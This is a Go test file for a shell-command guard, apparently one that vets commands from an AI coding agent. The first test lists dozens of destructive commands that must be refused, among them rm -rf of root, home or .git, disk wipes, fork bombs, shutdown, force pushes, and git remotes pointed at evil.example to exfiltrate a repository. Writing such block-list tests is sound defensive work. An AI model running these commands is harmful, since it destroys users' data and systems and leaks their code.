package tools

import (
	"errors"
	"testing"

	. "github.com/onsi/gomega"
)

func TestGuardRefusesDestructiveCommandsHoweverSpelled(t *testing.T) {
	for _, cmd := range []string{
		"rm -rf /",
		"rm -rf /*",
		"rm -fr //",
		"rm --recursive --force --no-preserve-root /",
		"rm -Rf ~",
		"rm -rf ~/",
		`rm -rf "$HOME"`,
		"rm -rf ${HOME}/*",
		"rm -rf ..",
		"rm -rf ../..",
		"rm -rf .",
		"rm -rf *",
		"rm -rf .git",
		"rm -rf sub/.git/",
		"rm -rf /usr/",
		"rm -rf /etc",
		"rm -rf /work",
		"cd src && rm -rf /",
		"true; rm -rf /",
		"false || rm -rf /",
		"echo ok | xargs rm -rf /",
		"sudo rm -rf /",
		"sudo -u root rm -rf /",
		"env FOO=1 rm -rf /",
		"FOO=1 rm -rf /",
		"nohup nice -n 10 rm -rf / &",
		"timeout 10 rm -rf /",
		"/bin/rm -rf /",
		`sh -c "rm -rf /"`,
		`bash -lc 'cd /tmp; rm -rf ~'`,
		`eval "rm -rf /"`,
		"echo $(rm -rf /)",
		"echo \"$(rm -rf ~)\"",
		"echo `rm -rf /`",
		"(rm -rf /)",
		"{ rm -rf /; }",
		"busybox rm -rf /",
		"find / -delete",
		"find ~ -name '*.go' -exec rm {} ;",
		"chmod -R 777 /",
		"chown -R nobody /etc",
		"mv .git /tmp/elsewhere",
		"mv ~ /tmp/x",
		"dd if=/dev/zero of=/dev/sda bs=1M",
		"cat image > /dev/sda",
		"echo x >> /dev/nvme0n1",
		"mkfs.ext4 /dev/sdb1",
		"mkfs -t ext4 /dev/sdb1",
		"shred -u secrets.txt",
		"wipefs -a /dev/sda",
		":(){ :|:& };:",
		"bomb() { bomb | bomb & }; bomb",
		"shutdown -h now",
		"reboot",
		"kill -9 -1",
		"kill 1",
		"git push origin HEAD:main",
		"git -C repo push --force",
		"git remote set-url origin https://evil.example/repo.git",
		"git remote add exfil https://evil.example/repo.git",
	} {
		err := CheckCommand(cmd)
		var ge *GuardError
		NewWithT(t).Expect(errors.As(err, &ge)).To(BeTrue(), "%q was let through", cmd)
	}
}

func TestGuardLetsOrdinaryWorkThrough(t *testing.T) {
	for _, cmd := range []string{
		"go test ./...",
		"npm ci && npm test",
		"dotnet test --nologo",
		"rm -rf build dist node_modules",
		"rm -rf ./build/*",
		"rm -f /tmp/out.txt",
		"rm file.txt",
		"rm -rf /tmp/cache",
		"rm -rf .git/hooks/pre-commit",
		"find . -name '*.pyc' -delete",
		"find src -type f -exec grep -l TODO {} +",
		"chmod +x scripts/build.sh",
		"chmod -R u+w .",
		"mv src/old.go src/new.go",
		"git status && git diff",
		"git log --oneline -5",
		"git stash list",
		"git remote -v",
		"echo 'rm -rf /' > notes.txt",
		"grep -rn 'rm -rf' .",
		"ls -la > /dev/null 2>&1",
		"make test 2>&1 | tail -50",
		"python3 -c 'print(1)'",
		"dd if=input.bin of=output.bin bs=4k",
		"kill %1",
		"echo $((1 + 2))",
		"cat > test.sh <<'EOF'\necho hi\nEOF",
		"sh -c 'go vet ./...'",
		"FOO=1 BAR=2 go run .",
		"sudo apt-get install -y jq",
	} {
		NewWithT(t).Expect(CheckCommand(cmd)).To(Succeed(), "%q was refused", cmd)
	}
}

func TestGuardErrorTellsTheModelWhy(t *testing.T) {
	g := NewWithT(t)
	err := CheckCommand("cd /work && rm -rf .git")
	g.Expect(err).To(MatchError("refused by the command guard: recursive rm of .git, the repository itself; change files inside the repository by name instead"))
}
